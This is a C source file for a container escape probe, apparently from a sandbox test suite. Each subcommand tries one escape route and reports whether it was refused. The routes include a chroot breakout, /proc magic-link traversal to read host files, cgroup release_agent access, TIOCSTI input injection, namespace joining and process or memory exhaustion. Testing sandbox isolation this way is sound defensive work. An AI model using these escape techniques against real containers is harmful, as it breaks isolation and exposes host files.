/* attack: tries one way out of a container, and says whether it worked.
 *
 *   attack NAME [ARGUMENT...]
 *
 * Exit status 0: it worked; 1: refused, the reason is on standard output; 2: this kernel has no such thing, so nothing
 * can be said; 3: the attack itself is broken. What would harm the host if it worked is called with arguments that are
 * wrong: a call that was let through complains about those, one that was refused does not look at them.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { WORKED, REFUSED, ABSENT, BROKEN };

static int refused(const char *what)
{
    printf("refused: %s: %s\n", what, strerror(errno));
    return REFUSED;
}

static int judge(long result, const char *what) { return result < 0 ? refused(what) : WORKED; }

/* For calls that got wrong arguments: any complaint but a refusal means that the kernel looked at them. */
static int reached(long result, const char *what)
{
    if (result >= 0) return WORKED;
    if (errno == ENOSYS) { refused(what); return ABSENT; }
    return errno == EPERM || errno == EACCES ? refused(what) : WORKED;
}

static const char *argument(char **arguments, int at)
{
    for (int i = 0; i <= at; i++)
        if (!arguments[i]) exit(BROKEN);
    return arguments[at];
}

static int number(char **arguments, int at) { return atoi(argument(arguments, at)); }

static int can_read(int folder, const char *path, const char *secret)
{
    char content[256] = "";
    int fd = openat(folder, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    if (read(fd, content, sizeof content - 1) < 0) *content = 0;
    close(fd);
    return strstr(content, secret) != NULL;
}

/* ---- out of the root ---- */

/* A root that was only changed: one step out of a root below it, and ".." leads to the top. */
static int leave_chroot(char **a)
{
    int top = open("/", O_RDONLY | O_DIRECTORY);
    if (mkdir("/tmp/below", 0755) && errno != EEXIST) return refused("mkdir");
    if (chroot("/tmp/below")) return refused("chroot");
    if (fchdir(top)) return refused("fchdir");
    for (int i = 0; i < 64; i++)
        if (chdir("..")) return refused("chdir");
    if (chroot(".")) return refused("chroot .");
    return can_read(AT_FDCWD, argument(a, 0), argument(a, 1)) ? WORKED : refused("the file outside");
}

/* Links of /proc that lead past the root: root, cwd and open folders of every process that is to be seen. */
static int magic_links(char **a)
{
    static const char *const links[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
    const char *outside = argument(a, 0), *secret = argument(a, 1);
    char path[4096];
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
        if (*entry->d_name < '0' || *entry->d_name > '9') continue;
        for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s/../../../../../../../../%s", entry->d_name, links[i], outside);
            if (can_read(AT_FDCWD, path, secret)) return WORKED;
            snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, links[i], outside);
            if (can_read(AT_FDCWD, path, secret)) return WORKED;
        }
    }
    return refused("no link leads outside");
}

static int inherited_folder(char **a)
{
    char path[4096];
    snprintf(path, sizeof path, "../../../../../../../..%s", argument(a, 0));
    for (int fd = 0; fd < 1024; fd++)
        if (can_read(fd, path, argument(a, 1))) return WORKED;
    return refused("no descriptor leads outside");
}

static int old_root(char **a)
{
    /* The old root lay below the new one for a moment; detached it is reachable by no path. */
    char path[4096];
    snprintf(path, sizeof path, "/..%s", argument(a, 0));
    if (can_read(AT_FDCWD, path, argument(a, 1)) || can_read(AT_FDCWD, argument(a, 0), argument(a, 1))) return WORKED;
    if (umount2("/", MNT_DETACH)) return refused("umount");
    return can_read(AT_FDCWD, argument(a, 0), argument(a, 1)) ? WORKED : refused("the file outside");
}

/* Whoever started this container may be found through /proc/1/exe, if that is not this image's own program. */
static int change_launcher(char **a) { (void)a; return judge(chmod("/proc/1/exe", 0755), "chmod"); }

static int change_own_program(char **a) { (void)a; return judge(chmod("/proc/self/exe", 0711), "chmod"); }

/* Standard input: a device of the host's would be changed for everybody. */
static int change_input(char **a) { (void)a; return judge(fchmod(0, 0666), "fchmod"); }

static int open_by_handle(char **a)
{
    (void)a;
    struct { struct file_handle head; char room[128]; } handle = {.head.handle_bytes = 128};
    int mount_id, top = open("/tmp", O_RDONLY | O_DIRECTORY);
    int fd = open("/tmp/handle", O_CREAT | O_RDWR, 0600);
    if (top < 0 || fd < 0) return BROKEN;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/tmp/handle", &handle, &mount_id, 0)) return refused("name_to_handle_at");
    return judge(syscall(SYS_open_by_handle_at, top, &handle, O_RDONLY), "open_by_handle_at");
}

/* ---- namespaces and mounts ---- */

static int join_namespace(char **a)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/ns/%s", argument(a, 0));
    int fd = open(path, O_RDONLY);
    if (fd < 0) return refused(path);
    return judge(syscall(SYS_setns, fd, 0), "setns");
}

static int new_namespace(char **a) { return judge(syscall(SYS_unshare, strtoul(argument(a, 0), NULL, 16)), "unshare"); }

static int clone_namespace(char **a)
{
    long pid = syscall(SYS_clone, strtoul(argument(a, 0), NULL, 16) | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    return judge(pid, "clone");
}

static int clone3_namespace(char **a)
{
    uint64_t arguments[11] = {strtoul(argument(a, 0), NULL, 16), 0, 0, 0, SIGCHLD};
    long pid = syscall(SYS_clone3, arguments, sizeof arguments);
    if (pid == 0) _exit(0);
    return judge(pid, "clone3");
}

static int mount_something(char **a) { (void)a; return judge(mount("tmpfs", "/tmp", "tmpfs", 0, NULL), "mount"); }
static int bind_something(char **a) { (void)a; return judge(mount("/proc", "/tmp", NULL, MS_BIND, NULL), "bind"); }
static int new_file_system(char **a) { (void)a; return judge(syscall(430 /* fsopen */, "tmpfs", 0), "fsopen"); }
static int copy_mount(char **a) { (void)a; return judge(syscall(428 /* open_tree */, AT_FDCWD, "/", 1), "open_tree"); }
static int unmount(char **a) { return judge(umount2(argument(a, 0), MNT_DETACH), "umount"); }
static int writable_again(char **a) { return judge(mount(NULL, argument(a, 0), NULL, MS_BIND | MS_REMOUNT, NULL), "remount"); }
static int pivot(char **a) { (void)a; return reached(syscall(SYS_pivot_root, ".", "."), "pivot_root"); }

/* ---- kernel files and devices ---- */

/* Writes what is in the file already; of a choice in brackets the chosen word. */
static int write_same(char **a)
{
    char content[256] = "", *value = content;
    const char *path = argument(a, 0);
    mount(NULL, "/sys", NULL, MS_BIND | MS_REMOUNT, NULL);
    int fd = open(path, O_RDONLY);
    if (fd < 0 || read(fd, content, sizeof content - 1) < 1) return refused("read");
    close(fd);
    char *bracket = strchr(content, '[');
    if (bracket) { value = bracket + 1; value[strcspn(value, "]")] = 0; }
    fd = open(path, O_WRONLY);
    if (fd < 0) return refused("open");
    return judge(write(fd, value, strlen(value)), "write");
}

static int look(char **a)
{
    struct stat status;
    char word[8]; /* /proc/kpage* are read in whole words only */
    if (stat(argument(a, 0), &status)) return refused("stat");
    if (S_ISDIR(status.st_mode)) {
        DIR *folder = opendir(argument(a, 0));
        for (struct dirent *entry; folder && (entry = readdir(folder));)
            if (*entry->d_name != '.') return WORKED;
        return refused("an empty folder");
    }
    if (!S_ISREG(status.st_mode)) return refused("no file of the kernel's");
    int fd = open(argument(a, 0), O_RDONLY);
    if (fd < 0) return refused("open");
    return read(fd, word, sizeof word) > 0 ? WORKED : refused("read");
}

static int make_device(char **a)
{
    (void)a;
    mount(NULL, "/", NULL, MS_BIND | MS_REMOUNT, NULL);
    if (mknod("/data/zero", S_IFCHR | 0666, makedev(1, 5))) return refused("mknod");
    return judge(open("/data/zero", O_RDONLY), "open");
}

static int open_device(char **a)
{
    mount(NULL, "/", NULL, MS_BIND | MS_REMOUNT, NULL);
    return judge(open(argument(a, 0), O_RDONLY | O_NONBLOCK), argument(a, 0));
}

static int change_device(char **a) { (void)a; return judge(chmod("/dev/null", 0666), "chmod /dev/null"); }

static int terminal_input(char **a) { (void)a; return reached(ioctl(0, TIOCSTI, "x"), "TIOCSTI"); }
static int terminal_input_high(char **a) { (void)a; return reached(syscall(SYS_ioctl, 0, 0xFFFFFFFF00000000UL | TIOCSTI, "x"), "TIOCSTI"); }

/* ---- cgroups ---- */

static int leave_cgroup(char **a)
{
    (void)a;
    if (mkdir("/tmp/cgroup", 0755)) return BROKEN;
    if (mount("cgroup2", "/tmp/cgroup", "cgroup2", 0, NULL)) return refused("mount");
    int fd = open("/tmp/cgroup/cgroup.procs", O_WRONLY);
    if (fd < 0) return refused("open");
    return judge(write(fd, "0", 1), "write");
}

static int release_agent(char **a)
{
    if (mkdir("/tmp/cgroup", 0755)) return BROKEN;
    if (mount("cgroup", "/tmp/cgroup", "cgroup", 0, argument(a, 0))) return refused("mount");
    int fd = open("/tmp/cgroup/release_agent", O_WRONLY);
    if (fd < 0) return refused("open");
    return judge(write(fd, "\n", 1), "write");
}

/* ---- other processes ---- */

static int see_process(char **a)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", number(a, 0));
    return judge(open(path, O_RDONLY), path);
}

static int send_signal(char **a) { return judge(kill(number(a, 0), 0), "kill"); }
static int trace(char **a) { return judge(ptrace(PTRACE_SEIZE, number(a, 0), NULL, NULL), "ptrace"); }
static int hold_process(char **a) { return judge(syscall(434 /* pidfd_open */, number(a, 0), 0), "pidfd_open"); }

static int signal_all(char **a) { (void)a; return judge(kill(-1, 0), "kill -1"); }

/* ---- the kernel's keys, programs, counters ---- */

static int get_keyring(char **a) { (void)a; return judge(syscall(SYS_keyctl, 0, -3, 1), "keyctl"); }
static int add_a_key(char **a) { (void)a; return judge(syscall(SYS_add_key, "user", "attack", "x", 1, -2), "add_key"); }
static int request_a_key(char **a)
{
    (void)a;
    long key = syscall(SYS_request_key, "user", "benchbox-no-such-key", NULL, 0);
    return key < 0 && errno == ENOKEY ? WORKED : judge(key, "request_key");
}
static int find_key(char **a) { return judge(syscall(SYS_keyctl, 10, -3, "user", argument(a, 0), 0), "search"); }

static int load_bpf(char **a)
{
    (void)a;
    union bpf_attr attributes = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1};
    return judge(syscall(SYS_bpf, BPF_MAP_CREATE, &attributes, sizeof attributes), "bpf");
}

static int count_events(char **a)
{
    (void)a;
    struct perf_event_attr attributes = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attributes, .config = PERF_COUNT_SW_CPU_CLOCK};
    long fd = syscall(SYS_perf_event_open, &attributes, -1, 0, -1, 0);
    if (fd < 0 && (errno == ENOSYS || errno == ENOENT)) { refused("perf_event_open"); return ABSENT; }
    return judge(fd, "perf_event_open");
}

static int handle_faults(char **a) { (void)a; return judge(syscall(SYS_userfaultfd, 0), "userfaultfd"); }

static int submit_ring(char **a)
{
    (void)a;
    char parameters[120] = {0};
    return judge(syscall(425 /* io_uring_setup */, 1, parameters), "io_uring_setup");
}

static int load_kernel(char **a) { (void)a; return reached(syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0xFFFFUL), "kexec_load"); }
static int load_module(char **a) { (void)a; return reached(syscall(SYS_init_module, NULL, 0UL, NULL), "init_module"); }
static int load_module_file(char **a) { (void)a; return reached(syscall(SYS_finit_module, -1, "", 0), "finit_module"); }
static int restart(char **a) { (void)a; return reached(syscall(SYS_reboot, 1, 2, 3, NULL), "reboot"); }
static int set_clock(char **a) { (void)a; return judge(syscall(SYS_settimeofday, NULL, NULL), "settimeofday"); }
static int swap(char **a) { (void)a; return reached(syscall(SYS_swapon, "/no-such-file", 0), "swapon"); }
static int read_log(char **a) { (void)a; return judge(syscall(SYS_syslog, 10, NULL, 0), "syslog"); }
static int host_name(char **a) { (void)a; return judge(sethostname("attacked", 8), "sethostname"); }
static int fixed_addresses(char **a) { (void)a; return judge(personality(0x0040000), "personality"); }

/* ---- network and IPC ---- */

static int abstract_socket(char **a)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "%s", argument(a, 0));
    socklen_t length = (socklen_t)(sizeof address.sun_family + 1 + strlen(argument(a, 0)));
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return fd < 0 ? BROKEN : judge(connect(fd, (struct sockaddr *)&address, length), "connect");
}

static int loopback_service(char **a)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)number(a, 0)), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    return fd < 0 ? BROKEN : judge(connect(fd, (struct sockaddr *)&address, sizeof address), "connect");
}

static int make_socket(char **a)
{
    long fd = socket(number(a, 0), number(a, 1), number(a, 2));
    if (fd < 0 && errno != EPERM && errno != EACCES) { refused("socket"); return ABSENT; }
    return judge(fd, "socket");
}

static int shared_memory(char **a) { return judge(shmget(number(a, 0), 0, 0), "shmget"); }

/* ---- limits and privileges ---- */

static int many_processes(char **a)
{
    for (int i = number(a, 0); i > 0; i--) {
        pid_t pid = fork();
        if (pid == 0) { pause(); _exit(0); }
        if (pid < 0) return refused("fork");
    }
    return WORKED;
}

static int much_memory(char **a)
{
    size_t length = (size_t)number(a, 0) << 20;
    char *memory = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED) return refused("mmap");
    for (size_t i = 0; i < length; i += 4096) memory[i] = 1;
    return WORKED;
}

/* As an ordinary user, through a program that belongs to root and has the setuid bit. */
static int gain_user(char **a)
{
    if (geteuid() == 0 && getuid() != 0) return WORKED;
    if (getuid() != 0) return refused("the setuid bit");
    if (setgid(1000) || setuid(1000)) return BROKEN;
    execl(argument(a, 0), argument(a, 0), "gain-user", argument(a, 0), NULL);
    return BROKEN;
}

/* Calls each number with arguments that are wrong everywhere; prints what each gave. */
static int calls(char **a)
{
    int let_through = 0;
    for (int i = 0; a[i]; i++) {
        int code;
        pid_t pid = fork();
        if (pid == 0) {
            errno = 0;
            long result = syscall(atol(a[i]), -1L, -1L, -1L, -1L, -1L, -1L);
            _exit(result >= 0 ? 0 : errno);
        }
        if (pid < 0 || waitpid(pid, &code, 0) != pid) return BROKEN;
        int held = WIFEXITED(code) && (WEXITSTATUS(code) == EPERM || WEXITSTATUS(code) == ENOSYS);
        if (!held) { let_through++; printf("%s ", a[i]); }
    }
    return let_through ? WORKED : REFUSED;
}

/* i386's getpid. A kernel without such calls ends the process with another signal. */
static int old_call(char **a)
{
    (void)a;
#ifdef __x86_64__
    long result = 20;
    __asm__ volatile("int $0x80" : "+a"(result) : : "memory", "r8", "r9", "r10", "r11");
    return result > 0 ? WORKED : ABSENT;
#else
    return ABSENT;
#endif
}

static const struct { const char *name; int (*attempt)(char **); } attacks[] = {
    {"leave-chroot", leave_chroot}, {"magic-links", magic_links}, {"inherited-folder", inherited_folder},
    {"old-root", old_root}, {"change-launcher", change_launcher}, {"change-own-program", change_own_program},
    {"change-input", change_input}, {"open-by-handle", open_by_handle}, {"join-namespace", join_namespace},
    {"new-namespace", new_namespace}, {"clone-namespace", clone_namespace}, {"clone3-namespace", clone3_namespace},
    {"mount", mount_something}, {"bind", bind_something}, {"new-file-system", new_file_system},
    {"copy-mount", copy_mount}, {"unmount", unmount}, {"writable-again", writable_again}, {"pivot", pivot},
    {"write-same", write_same}, {"look", look}, {"make-device", make_device}, {"open-device", open_device},
    {"change-device", change_device}, {"terminal-input", terminal_input}, {"terminal-input-high", terminal_input_high},
    {"leave-cgroup", leave_cgroup}, {"release-agent", release_agent}, {"see-process", see_process},
    {"send-signal", send_signal}, {"signal-all", signal_all}, {"trace", trace}, {"hold-process", hold_process},
    {"get-keyring", get_keyring}, {"add-key", add_a_key}, {"request-key", request_a_key}, {"find-key", find_key},
    {"load-bpf", load_bpf}, {"count-events", count_events}, {"handle-faults", handle_faults},
    {"submit-ring", submit_ring}, {"load-kernel", load_kernel}, {"load-module", load_module},
    {"load-module-file", load_module_file}, {"restart", restart}, {"set-clock", set_clock}, {"swap", swap},
    {"read-log", read_log}, {"host-name", host_name}, {"fixed-addresses", fixed_addresses},
    {"abstract-socket", abstract_socket}, {"loopback-service", loopback_service}, {"make-socket", make_socket},
    {"shared-memory", shared_memory}, {"many-processes", many_processes}, {"much-memory", much_memory},
    {"gain-user", gain_user}, {"calls", calls}, {"old-call", old_call},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
        if (!strcmp(argv[1], attacks[i].name)) return attacks[i].attempt(argv + 2);
    return BROKEN;
}
